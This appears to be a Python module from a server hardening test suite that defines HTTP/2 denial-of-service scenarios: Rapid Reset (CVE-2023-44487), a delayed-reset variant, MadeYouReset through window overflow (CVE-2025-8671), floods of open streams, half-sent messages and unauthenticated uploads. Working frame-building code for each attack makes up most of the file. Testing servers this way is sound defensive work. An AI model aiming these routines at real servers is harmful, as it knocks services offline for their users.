"""Streams: opened, reset, left open, opened beyond what was agreed."""

from __future__ import annotations

import struct
import time

from hostile.attacks import attack
from hostile.wire import (
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    HEALTH_CHECK,
    PING,
    REFLECTION,
    RST_STREAM,
    WINDOW_UPDATE,
    Arena,
    call_headers,
    frame,
    message,
    preface,
)

_CANCEL = struct.pack(">I", 8)
# Together with what is there already, more than a window may be.
_OVERFLOW = struct.pack(">I", (1 << 31) - 1)


@attack("HEADERS and RST_STREAM, 10,000 pairs a second (CVE-2023-44487)", cut=True, frames=500)
def rapid_reset(arena: Arena) -> None:
    block = call_headers(HEALTH_CHECK)
    for _ in arena.ticks():
        for line in arena.keep(2):
            if line.busy:
                continue
            pairs = []
            for stream in (line.stream() for _ in range(50)):
                pairs.append(frame(HEADERS, END_HEADERS | END_STREAM, stream, block))
                pairs.append(frame(RST_STREAM, 0, stream, _CANCEL))
            line.send(b"".join(pairs))
            arena.sent(100)


@attack("the same, reset only once the call has begun", cut=True, frames=500)
def patient_reset(arena: Arena) -> None:
    block = call_headers(REFLECTION)
    for _ in arena.ticks():
        # Up to 1,500 calls a second.
        for line in arena.keep(1):
            # The answer to a PING says that the calls before it were seen.
            if line.said > line.heard[PING]:
                continue
            line.said += 1
            streams = [line.stream() for _ in range(15)]
            before = [frame(RST_STREAM, 0, stream - 30, _CANCEL) for stream in streams if stream > 30]
            calls = [frame(HEADERS, END_HEADERS, stream, block) for stream in streams]
            line.send(b"".join(before + calls) + frame(PING, 0, 0, b"seen yet"))
            arena.sent(len(before) + len(calls) + 1)


@attack("streams that make the server reset them (CVE-2025-8671)", cut=True, frames=500)
def made_you_reset(arena: Arena) -> None:
    block = call_headers(HEALTH_CHECK)
    for _ in arena.ticks():
        for line in arena.keep(2):
            if line.busy:
                continue
            pairs = []
            for stream in (line.stream() for _ in range(20)):
                pairs.append(frame(HEADERS, END_HEADERS, stream, block))
                pairs.append(frame(WINDOW_UPDATE, 0, stream, _OVERFLOW))
            line.send(b"".join(pairs))
            arena.sent(40)


@attack("1,000 streams a second that are left open", cut=True, refused=True, frames=2_000)
def too_many_streams(arena: Arena) -> None:
    block = call_headers(REFLECTION)
    for _ in arena.ticks():
        for line in arena.keep(1):
            if not line.busy:
                streams = [line.stream() for _ in range(10)]
                line.send(b"".join(frame(HEADERS, END_HEADERS, stream, block) for stream in streams))
                arena.sent(10)


@attack(
    "4,000 calls on 20 connections that send half a message and no more",
    refused=True,
    frames=4_000,
    connections=20,
)
def half_calls(arena: Arena) -> None:
    blocks = [call_headers(REFLECTION), call_headers(HEALTH_CHECK)]
    half = message(b"1234567890")[:9]
    for tick in arena.ticks():
        lines = arena.keep(20)
        line = lines[tick % len(lines)]
        if line.next_stream >= 2_000 or line.busy:
            continue
        parts = []
        for stream in (line.stream() for _ in range(10)):
            parts.append(frame(HEADERS, END_HEADERS, stream, blocks[stream // 2 % 2]))
            parts.append(frame(DATA, 0, stream, half))
        line.send(b"".join(parts))
        arena.sent(20)


@attack("uploads without a credential that counts, 1,000 a second", cut=True, refused=True, frames=2_000)
def no_credential(arena: Arena) -> None:
    block = call_headers("/quarterdeck.orchestration.v1.TaskService/CreateTask", "qd_nobody_nobody")
    upload = frame(DATA, 0, 1, message()[:1] + struct.pack(">I", 4 << 20) + b"x" * 100)
    for _ in arena.ticks():
        for line in arena.keep(1):
            if line.busy:
                continue
            parts = []
            for stream in (line.stream() for _ in range(10)):
                parts.append(frame(HEADERS, END_HEADERS, stream, block))
                parts.append(upload[:5] + struct.pack(">I", stream) + upload[9:])
                parts.append(frame(RST_STREAM, 0, stream, _CANCEL) if stream % 20 == 1 else b"")
            line.send(b"".join(parts))
            arena.sent(20)


def harmless(arena: Arena) -> None:
    """Valid calls by `h2` as its authors meant it, and the processor time that an attacker may take."""
    block = call_headers(HEALTH_CHECK)
    for _ in arena.ticks():
        started = time.monotonic()
        for line in arena.keep(2, preface()):
            parts = []
            for stream in (line.stream() for _ in range(2)):
                parts.append(frame(HEADERS, END_HEADERS, stream, block))
                parts.append(frame(DATA, END_STREAM, stream, message()))
            line.send(b"".join(parts))
            arena.sent(4)
        # Up to half of one processor: what the busiest attacker takes.
        while time.monotonic() - started < 0.005:
            pass
